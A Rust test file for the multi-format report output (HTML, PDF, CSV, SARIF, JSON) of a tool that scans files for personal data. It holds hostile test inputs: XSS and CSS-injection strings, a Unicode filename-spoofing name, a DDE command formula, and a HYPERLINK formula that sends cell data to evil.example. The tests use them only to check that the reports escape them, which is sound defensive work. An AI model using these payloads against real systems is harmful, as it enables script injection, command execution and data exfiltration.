//! The reports as a whole: the same scan in every format.

use std::collections::BTreeSet;
use std::io::{Cursor, Write as _};
use std::ops::ControlFlow;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use detect::{Engine, FingerprintKey, Input, Options, Sink};
use domain::{
    Branding, Category, Colour, FindingCounts, FindingId, FindingState, Locale, Location, Name,
    Progress, Risk, RiskAccumulator, ScanId, ScanState, Severity, SourceKind,
};
use jiff::Timestamp;
use jiff::tz::TimeZone;
use serde_json::Value;
use sha2::{Digest as _, Sha256};

use crate::{Brand, Document, FindingOut, Presentation, ScanOut, SourceOut};

/// What an attacker would like a report to do.
const HOSTILE: [&str; 7] = [
    "<script>alert(1)</script>.txt",
    "\"><img src=x onerror=alert(1)>",
    "invoice\u{202e}fdp.exe",
    "</style><style>*{display:none}",
    "שלום \u{2067}עולם\u{2069} مرحبا",
    "=cmd|' /C calc'!A1",
    "zero\u{200b}width\u{0}nul",
];

fn scan_id() -> ScanId {
    "scan_01h45ytscbebyvny4gc8cr8ma2".parse().unwrap()
}

fn moment() -> Timestamp {
    "2026-05-11T22:05:09Z".parse().unwrap()
}

fn scan(name: &str) -> ScanOut {
    ScanOut {
        id: scan_id(),
        name: Name::try_from(name.to_owned()).unwrap(),
        state: ScanState::Completed,
        source: SourceOut {
            kind: SourceKind::Upload,
            file_name: "share.zip".to_owned(),
            bytes: 26_429,
            website: None,
        },
        created_at: moment(),
        created_by: "key_01h45ytscbebyvny4gc8cr8ma2".to_owned(),
        started_at: Some(moment()),
        finished_at: Some(moment()),
        progress: Progress {
            documents: 20,
            bytes: 26_429,
        },
        findings: FindingCounts {
            critical: 1,
            high: 0,
            medium: 1,
            low: 1,
        },
        findings_accepted: 1,
        findings_false_positive: 0,
        findings_dropped: 3,
        risk: Some(Risk {
            left_out: 2,
            ..risk_of(&findings())
        }),
        failure: None,
        engine_version: "0.1.0+2".to_owned(),
        series: None,
        comparison: None,
        reused_from: None,
        schedule: None,
        rules_version: None,
        verdict: None,
    }
}

fn finding(detector: &str, severity: Severity, path: &str, line: u64) -> FindingOut {
    let meta = Engine::standard().detector(detector).unwrap();
    FindingOut {
        id: FindingId::derive(scan_id(), severity, path, line),
        detector: detector.to_owned(),
        title: meta.name.en.to_owned(),
        category: meta.category,
        severity,
        confidence: 0.95,
        article: meta.article.to_owned(),
        location: Location {
            path: path.to_owned(),
            part: None,
            line: Some(line),
            column: Some(7),
            end_line: Some(line),
            end_column: Some(16),
        },
        evidence: "9****5".to_owned(),
        occurrences: 1,
        fingerprint: format!("{line:032x}"),
        explanation: vec![
            "for: passes the 11-test (+0.20)".to_owned(),
            "for: “bsn” stands before it (+0.30)".to_owned(),
        ],
        state: FindingState::Open,
        reason: None,
        triaged_by: None,
        triaged_at: None,
        etag: "\"1\"".to_owned(),
        baseline: None,
        file: None,
        commit: None,
    }
}

/// What the worker says of these.
fn risk_of(findings: &[FindingOut]) -> Risk {
    let mut risk = RiskAccumulator::new();
    for finding in findings {
        if finding.state == FindingState::Open {
            risk.add(&finding.detector, finding.severity, 95, finding.occurrences);
        }
    }
    risk.score()
}

/// One of each: to deal with, of several values, decided about, not read.
fn findings() -> Vec<FindingOut> {
    let mut table = finding("email", Severity::Medium, "exports/klanten.xlsx", 1);
    table.location.part = Some("Sheet1!B7".to_owned());
    table.location.line = None;
    table.location.column = None;
    table.occurrences = 1_234;
    table.evidence = "j****@****l".to_owned();
    let mut accepted = finding("email", Severity::Low, "src/test.py", 3);
    accepted.state = FindingState::Accepted;
    accepted.reason = Some("a published address".to_owned());
    accepted.triaged_by = Some("file".to_owned());
    accepted.triaged_at = Some(moment());
    let mut unread = finding("file-unreadable", Severity::Low, "old/letters.doc", 1);
    unread.category = Category::File;
    unread.location.line = None;
    unread.evidence = "it is encrypted".to_owned();
    vec![
        finding("nl-bsn", Severity::Critical, "hr/loonlijst.csv", 2),
        table,
        accepted,
        unread,
    ]
}

fn how(language: Locale) -> Presentation {
    let branding = Branding {
        accent_colour: Some(Colour::new(0xff, 0xc8, 0)),
        footer: Name::try_from("Confidential".to_owned()).ok(),
        ..Branding::default()
    };
    Presentation {
        language,
        zone: TimeZone::get("Europe/Amsterdam").unwrap(),
        brand: Brand::new("Waterland Webshop B.V.", branding),
    }
}

fn document(language: Locale) -> Document {
    crate::of_scan(&scan("Quarterly review"), &findings(), how(language))
}

fn html(document: &Document) -> String {
    String::from_utf8(crate::html(document)).unwrap()
}

#[test]
fn the_report_of_an_assessment_names_its_class_and_what_to_do() {
    let mut scan = scan("Score of citizens");
    scan.source.kind = SourceKind::Assessment;
    scan.verdict = Some(domain::Verdict {
        language: Locale::Nl,
        classification: "prohibited".to_owned(),
        classification_name: "Verboden".to_owned(),
        articles: vec!["AI-verordening art. 5(1)(c)".to_owned()],
        reasons: vec!["Mensen krijgen een score.".to_owned()],
        next_steps: vec!["Stop de praktijk.".to_owned()],
        score_parts: vec![domain::ScoreShare {
            text: "Klasse: Verboden".to_owned(),
            points: 95,
        }],
        law: "Verordening (EU) 2024/1689".to_owned(),
    });
    let how = Presentation {
        language: Locale::Nl,
        zone: TimeZone::UTC,
        brand: Brand::new("Polder", Branding::default()),
    };
    let document = serde_json::to_string(&crate::of_scan(&scan, &[], how)).unwrap();
    for told in [
        "Verboden",
        "AI-verordening art. 5(1)(c)",
        "1. Stop de praktijk.",
        "Klasse: Verboden: 95",
        "Verordening (EU) 2024/1689",
    ] {
        assert!(document.contains(told), "{told}");
    }
    for formula in ["telt de bevindingen op", "controlegetallen", "gemaskeerd"] {
        assert!(!document.contains(formula), "{formula}");
    }
}

#[test]
fn the_document_says_what_the_scan_found() {
    insta::assert_json_snapshot!(document(Locale::En));
}

#[test]
fn the_page_is_written_in_dutch() {
    let page = html(&document(Locale::Nl));
    let (_, body) = page.split_once("</head>").unwrap();
    insta::assert_snapshot!(
        body.replace("<section", "\n<section")
            .replace("<tr", "\n<tr")
    );
}

#[test]
fn the_page_loads_nothing_and_its_policy_names_its_styles() {
    let page = html(&document(Locale::En));
    let policy = between(
        &page,
        "http-equiv=\"Content-Security-Policy\" content=\"",
        "\"",
    );
    assert!(policy.starts_with("default-src 'none';"), "{policy}");
    let mut rest = page.as_str();
    let mut styles = 0;
    while let Some((_, after)) = rest.split_once("<style>") {
        let (style, after) = after.split_once("</style>").unwrap();
        let hash = STANDARD.encode(Sha256::digest(style));
        assert!(policy.contains(&format!("'sha256-{hash}'")), "{policy}");
        assert!(!style.contains("url(") && !style.contains("@import"));
        (rest, styles) = (after, styles + 1);
    }
    assert_eq!(styles, 2);
    for absent in [
        "<script", "<link", "<iframe", "http://", "https://", " style=", " on",
    ] {
        let tags = page.split('<').filter_map(|part| part.split_once('>'));
        for (tag, _) in tags {
            let tag = format!("<{tag}>");
            assert!(!tag.contains(absent), "{absent} in {tag}");
        }
    }
}

#[test]
fn hostile_names_are_shown_and_do_nothing() {
    for text in HOSTILE {
        let shown: String = text.chars().filter(|c| !c.is_control()).collect();
        let mut findings = findings();
        for finding in &mut findings {
            text.clone_into(&mut finding.location.path);
            text.clone_into(&mut finding.evidence);
            finding.location.part = Some(text.to_owned());
            finding.explanation = vec![text.to_owned()];
            finding.reason = finding.reason.as_ref().map(|_| text.to_owned());
            finding.triaged_by = finding.triaged_by.as_ref().map(|_| text.to_owned());
        }
        let mut how = how(Locale::Nl);
        let branding = Branding {
            display_name: Name::try_from(shown.clone()).ok(),
            footer: Name::try_from(shown.clone()).ok(),
            ..Branding::default()
        };
        how.brand = Brand::new("x", branding);
        let document = crate::of_scan(&scan(&shown), &findings, how);
        let page = html(&document);
        for absent in ["<script>alert", "<img src=x", "<style>*{"] {
            assert!(!page.contains(absent), "{absent} for {text:?}");
        }
        let unseen = ['\u{202e}', '\u{2067}', '\u{2069}', '\u{200b}', '\0'];
        assert!(!page.contains(unseen), "{text:?}");
        assert!(crate::pdf(&document).unwrap().starts_with(b"%PDF-1.7"));
    }
}

#[test]
fn the_same_report_is_the_same_bytes() {
    let document = document(Locale::Nl);
    let pdf = crate::pdf(&document).unwrap();
    assert_eq!(pdf, crate::pdf(&document).unwrap());
    // Who makes one with more findings sees that it is not always these bytes.
    let other = crate::of_scan(&scan("Another"), &findings(), how(Locale::Nl));
    assert_ne!(pdf, crate::pdf(&other).unwrap());
    for wanted in [
        "/Lang(nl)",
        "/MarkInfo",
        "/Outlines",
        "pdfuaid:part",
        "/StructTreeRoot",
    ] {
        let is_there = pdf.windows(wanted.len()).any(|it| it == wanted.as_bytes());
        assert!(is_there, "{wanted} is missing");
    }
}

#[test]
fn a_broken_logo_is_told_and_a_report_does_without_it() {
    // The head of a PNG of 64 × 64 pixels, and nothing of its pixels.
    let mut file =
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x40\0\0\0\x40\x08\x06\0\0\0\xaa\x69\x71\xde".to_vec();
    file.extend(b"\0\0\0\0IEND\xae\x42\x60\x82");
    let logo = domain::Logo::from_bytes(file).unwrap();
    assert!(crate::logo_is_drawable(&logo).is_err());
    let mut how = how(Locale::En);
    how.brand.logo = Some(logo);
    let document = crate::of_scan(&scan("Review"), &findings(), how);
    crate::pdf(&document).unwrap();
}

/// Finds e-mail addresses.
#[derive(Default)]
struct Addresses(Vec<String>);

impl Sink for Addresses {
    fn finding(&mut self, finding: detect::Finding) -> ControlFlow<()> {
        if finding.detector == "email" {
            self.0.push(finding.evidence);
        }
        ControlFlow::Continue(())
    }

    fn document(&mut self, document: &detect::Document) -> ControlFlow<()> {
        assert_ne!(document.kind, detect::DocumentKind::Unreadable);
        ControlFlow::Continue(())
    }
}

/// The addresses that the engine itself reads in a report.
fn addresses(name: &str, report: Vec<u8>) -> Vec<String> {
    let input = Input {
        name,
        reader: Cursor::new(report),
    };
    let mut found = Addresses::default();
    let options = Options::new(FingerprintKey::new([7; 32]));
    Engine::standard()
        .scan(input, &options, &mut found)
        .unwrap();
    found.0
}

#[test]
fn the_engine_finds_nothing_in_a_report_of_what_it_found() {
    /// Keeps what it is told.
    #[derive(Default)]
    struct Kept(Vec<detect::Finding>);
    impl Sink for Kept {
        fn finding(&mut self, finding: detect::Finding) -> ControlFlow<()> {
            self.0.push(finding);
            ControlFlow::Continue(())
        }

        fn document(&mut self, _: &detect::Document) -> ControlFlow<()> {
            ControlFlow::Continue(())
        }
    }
    let letter = "Schrijf naar johanna.zonneveld@bakkerijvries.nl of naar piet@bakkerijvries.nl.";
    let input = Input {
        name: "letter.txt",
        reader: Cursor::new(letter.as_bytes()),
    };
    let mut kept = Kept::default();
    let options = Options::new(FingerprintKey::new([7; 32]));
    Engine::standard().scan(input, &options, &mut kept).unwrap();
    let mut records = detect::Records::new(scan_id(), 0);
    let mut findings: Vec<_> = kept
        .0
        .into_iter()
        .map(|finding| {
            let fingerprint = finding.fingerprint.to_string();
            let record = records.record(finding, fingerprint, moment());
            FindingOut::new(record, String::new())
        })
        .collect();
    assert!(findings.len() >= 2, "{findings:?}");
    let reports = |findings: &[FindingOut]| {
        let document = crate::of_scan(&scan("Review"), findings, how(Locale::En));
        [
            ("a.html", crate::html(&document)),
            ("a.pdf", crate::pdf(&document).unwrap()),
            ("a.csv", crate::csv(findings).unwrap()),
            (
                "a.sarif",
                crate::sarif(&scan("Review"), findings, &[], "").unwrap(),
            ),
            (
                "a.json",
                crate::json(&scan("Review"), findings, &[]).unwrap(),
            ),
        ]
    };
    for (name, report) in reports(&findings) {
        assert_eq!(addresses(name, report), [""; 0], "{name}");
    }
    // And it would have: evidence that nobody masked it finds in each of them.
    "els@bakkerijvries.nl".clone_into(&mut findings[0].evidence);
    for (name, report) in reports(&findings) {
        assert!(!addresses(name, report).is_empty(), "{name}");
    }
}

#[test]
fn no_field_of_the_table_is_a_formula() {
    let formula = || "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")".to_owned();
    let mut finding = finding("nl-bsn", Severity::Low, &formula(), 1);
    finding.location.part = Some(formula());
    finding.detector = formula();
    finding.title = formula();
    finding.evidence = formula();
    finding.article = "+31 6".to_owned();
    finding.reason = Some(formula());
    finding.fingerprint = formula();
    finding.commit = Some("-1".to_owned());
    let table = crate::csv(&[finding]).unwrap();
    let mut rows = csv::Reader::from_reader(table.as_slice());
    let row = rows.records().next().unwrap().unwrap();
    let guarded = row.iter().filter(|field| field.starts_with('\'')).count();
    assert_eq!(guarded, 9, "{row:?}");
    assert!(
        !row.iter()
            .any(|field| field.starts_with(['=', '+', '-', '@'])),
        "{row:?}"
    );
}

#[test]
fn the_table_of_categories_counts_what_the_tiles_count() {
    let mut findings = findings();
    let mut hostile = finding("file-hostile", Severity::Medium, "old/bomb.zip", 1);
    hostile.category = Category::File;
    findings.push(hostile);
    let document = crate::of_scan(&scan("Review"), &findings, how(Locale::En));
    let document = serde_json::to_value(&document).unwrap();
    let categories = document["sections"][0]["sections"].as_array().unwrap();
    let table = &categories.last().unwrap()["blocks"][0]["table"];
    let mut counts = [0; 4];
    for row in table["rows"].as_array().unwrap() {
        for (count, cell) in counts.iter_mut().zip(&row.as_array().unwrap()[1..]) {
            *count += cell[0]["text"].as_str().unwrap().parse::<u64>().unwrap();
        }
    }
    assert_eq!(counts, [1, 0, 2, 1]);
    let page = html(&crate::of_scan(&scan("Review"), &findings, how(Locale::Nl)));
    for told in [
        "Middel: 1 bevinding<",
        "1 verdere bevinding gaat over bestanden zelf; zie “Wat niet gelezen kon worden”.",
        "Wat niet gelezen kon worden: 2 bevindingen<",
    ] {
        assert!(page.contains(told), "{told}");
    }
}

#[test]
fn of_very_many_findings_the_worst_are_listed_and_the_rest_is_told() {
    let many: Vec<_> = (0..20_000)
        .map(|n| {
            let (detector, severity) = match n % 4 {
                0 => ("nl-bsn", Severity::Critical),
                1 => ("iban", Severity::High),
                2 => ("phone", Severity::Medium),
                _ => ("email", Severity::Low),
            };
            finding(detector, severity, &format!("folder/{}.csv", n % 97), n)
        })
        .collect();
    let document = crate::of_scan(&scan("Large"), &many, how(Locale::En));
    let page = html(&document);
    assert_eq!(page.matches("250 of 5,000 are listed here.").count(), 4);
    // Four tables of findings, what the score is made of, and the one category.
    let rows = page.matches("scope=\"row\" role=\"rowheader\"").count();
    assert_eq!(rows, 4 * 250 + 2 + 1);
    assert!(page.len() < 2_000_000, "{}", page.len());
}

#[test]
fn code_hosts_get_what_they_ask_for() {
    let mut findings = findings();
    // The same value again in the same file is another alert; in another file it is counted anew.
    findings.push(finding("nl-bsn", Severity::Critical, "hr/loonlijst.csv", 2));
    findings.push(finding("nl-bsn", Severity::Critical, "hr/other.csv", 2));
    let log: Value =
        serde_json::from_slice(&crate::sarif(&scan("Review"), &findings, &[], "").unwrap())
            .unwrap();
    let run = &log["runs"][0];
    // An id would win over the category that a pipeline gives each of its uploads.
    assert!(run["automationDetails"].is_null());
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for rule in rules {
        for text in ["shortDescription", "fullDescription"] {
            let text = rule[text]["text"].as_str().unwrap();
            assert!((1..=1_024).contains(&text.chars().count()), "{text}");
        }
        assert!(
            rule["help"]["text"]
                .as_str()
                .is_some_and(|text| !text.is_empty())
        );
        let markdown = rule["help"]["markdown"].as_str().unwrap();
        assert!(markdown.contains("**Law:**"), "{markdown}");
        let properties = &rule["properties"];
        let tags = properties["tags"].as_array().unwrap();
        assert!(
            tags.len() <= 10 && tags.contains(&Value::from("security")),
            "{tags:?}"
        );
        let precision = properties["precision"].as_str().unwrap();
        assert!(
            ["very-high", "high", "medium", "low"].contains(&precision),
            "{precision}"
        );
        let severity: f64 = properties["security-severity"]
            .as_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((0.1..=10.0).contains(&severity), "{severity}");
        let level = rule["defaultConfiguration"]["level"].as_str().unwrap();
        assert!(["error", "warning", "note"].contains(&level), "{level}");
    }
    let results = run["results"].as_array().unwrap();
    for result in results {
        let rule = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[rule]["id"], result["ruleId"]);
        let region = &result["locations"][0]["physicalLocation"]["region"];
        for number in ["startLine", "startColumn", "endLine"] {
            assert!(
                region[number].as_u64().is_some_and(|number| number >= 1),
                "{region}"
            );
        }
        let rank = result["rank"].as_f64().unwrap();
        assert!((0.0..=100.0).contains(&rank), "{rank}");
    }
    let hashes: Vec<_> = results
        .iter()
        .map(|result| {
            result["partialFingerprints"]["primaryLocationLineHash"]
                .as_str()
                .unwrap()
        })
        .collect();
    let two = format!("{:032x}", 2);
    assert_eq!(hashes[0], format!("{two}:1"));
    assert_eq!(hashes[4..], [format!("{two}:2"), format!("{two}:1")]);
}

#[test]
fn a_code_hosts_limits_are_kept() {
    let many: Vec<_> = (0..25_003_u64)
        .map(|n| {
            let severity = if n < 3 { Severity::Low } else { Severity::High };
            let mut finding = finding("iban", severity, &format!("src/{}/file.rs", n % 977), n);
            // As fingerprints are: nothing that a packer could shorten.
            finding.fingerprint = hex::encode(&Sha256::digest(n.to_be_bytes())[..16]);
            finding
        })
        .collect();
    let report = crate::sarif(&scan("Review"), &many, &[], "").unwrap();
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packed.write_all(&report).unwrap();
    let packed = packed.finish().unwrap().len();
    assert!(packed < 10_000_000, "{packed}");
    let log: Value = serde_json::from_slice(&report).unwrap();
    let run = &log["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 25_000);
    assert!(results.iter().all(|result| result["level"] == "error"));
    // Three that the scan did not keep, and three that no code host would take.
    let told = run["invocations"][0]["toolExecutionNotifications"].as_array();
    let told: Vec<_> = told
        .unwrap()
        .iter()
        .map(|told| told["message"]["text"].as_str().unwrap())
        .collect();
    assert_eq!(told.len(), 2, "{told:?}");
    assert!(told[0].starts_with("3 further findings were counted and are not listed"));
    assert!(told[1].starts_with("3 further findings, the least severe, are left out"));
}

#[test]
fn the_score_is_explained_as_the_scan_explains_it() {
    // Two causes that bring the same: without either the score would hardly be lower.
    let twice = |detector| finding(detector, Severity::Critical, "hr/loonlijst.csv", 2);
    let findings = [twice("nl-bsn"), twice("iban")];
    let mut scan = scan("Review");
    scan.risk = Some(risk_of(&findings));
    let factors = &scan.risk.as_ref().unwrap().factors;
    let points: Vec<_> = factors.iter().map(|it| it.points.to_string()).collect();
    assert!(factors.iter().all(|it| it.points >= 30), "{factors:?}");
    let rows = [
        (
            Locale::En,
            "What the score is made of",
            ["Bank account number (IBAN)", "Citizen service number (BSN)"],
        ),
        (
            Locale::Nl,
            "Waaruit de score bestaat",
            ["Bankrekeningnummer (IBAN)", "Burgerservicenummer (BSN)"],
        ),
    ];
    for (language, caption, names) in rows {
        let document = crate::of_scan(&scan, &findings, how(language));
        let document = serde_json::to_value(&document).unwrap();
        let risk = &document["sections"][0]["sections"][0];
        let table = risk["blocks"].as_array().unwrap().iter();
        let table = table.map(|block| &block["table"]);
        let table = table
            .into_iter()
            .find(|it| it["caption"] == caption)
            .unwrap();
        let told = |column: usize| -> Vec<_> {
            let rows = table["rows"].as_array().unwrap().iter();
            rows.map(|row| row[column][0]["text"].as_str().unwrap().to_owned())
                .collect()
        };
        assert_eq!(told(0), names, "{language:?}");
        assert_eq!(told(3), points, "{language:?}");
    }
}

#[test]
fn a_code_host_gets_places_that_it_can_open() {
    /// Path, file, part; then URI, name in the file, line.
    type Row = (
        &'static str,
        Option<&'static str>,
        Option<&'static str>,
        &'static str,
        Option<&'static str>,
        u64,
    );
    let of = |kind: SourceKind, root: &str, rows: &[Row]| {
        let mut scan = scan("Review");
        scan.source.kind = kind;
        let findings: Vec<_> = rows
            .iter()
            .map(|(path, file, part, ..)| {
                let mut finding = finding("nl-bsn", Severity::Critical, path, 5);
                finding.file = file.map(ToOwned::to_owned);
                finding.location.part = part.map(ToOwned::to_owned);
                finding
            })
            .collect();
        let log = crate::sarif(&scan, &findings, &[], root).unwrap();
        let log: Value = serde_json::from_slice(&log).unwrap();
        let results = log["runs"][0]["results"].as_array().unwrap();
        let mut hashes = BTreeSet::new();
        for (result, (path, _, _, uri, inner, line)) in results.iter().zip(rows) {
            let place = &result["locations"][0];
            let physical = &place["physicalLocation"];
            assert_eq!(physical["artifactLocation"]["uri"], *uri, "{path}");
            let name = &place["logicalLocations"][0]["fullyQualifiedName"];
            assert_eq!(name.as_str(), *inner, "{path}");
            assert_eq!(physical["region"]["startLine"], *line, "{path}");
            // The same value in two files of an archive is two alerts.
            let hash = &result["partialFingerprints"]["primaryLocationLineHash"];
            assert!(hashes.insert((*uri, hash.to_string())), "{path}");
        }
    };
    let (zip, mail) = ("a/bomb.zip!/a.txt", "a/bomb.zip!/x.eml!/b.docx");
    let on_the_platform: [Row; 6] = [
        ("src/a.py", None, None, "src/a.py", None, 5),
        (zip, None, None, "a/bomb.zip", Some("a.txt"), 1),
        (
            mail,
            None,
            Some("page 2"),
            "a/bomb.zip",
            Some("x.eml!/b.docx/page 2"),
            1,
        ),
        ("a.xlsx", None, Some("S!B7"), "a.xlsx", Some("S!B7"), 5),
        ("", None, None, "text", None, 5),
        ("http://a b.txt", None, None, "http%3A//a%20b.txt", None, 5),
    ];
    of(SourceKind::Upload, "", &on_the_platform);
    let (shop, anchor) = ("http://shop.test:3000/", "https://shop.test/#!/a?b=1&c=%20");
    let website: [Row; 2] = [
        (shop, None, None, shop, None, 5),
        (anchor, None, None, anchor, None, 5),
    ];
    of(SourceKind::Website, "", &website);
    let here: [Row; 3] = [
        ("a.py", Some("a.py"), None, "my%20src/a.py", None, 5),
        (
            "a!/a.py",
            Some("a!/a.py"),
            None,
            "my%20src/a%21/a.py",
            None,
            5,
        ),
        (
            "a!/b.zip!/c.txt",
            Some("a!/b.zip"),
            None,
            "my%20src/a%21/b.zip",
            Some("c.txt"),
            1,
        ),
    ];
    of(SourceKind::Upload, "my src/", &here);
}

fn between<'a>(text: &'a str, before: &str, after: &str) -> &'a str {
    let (_, rest) = text.split_once(before).unwrap();
    rest.split_once(after).unwrap().0
}
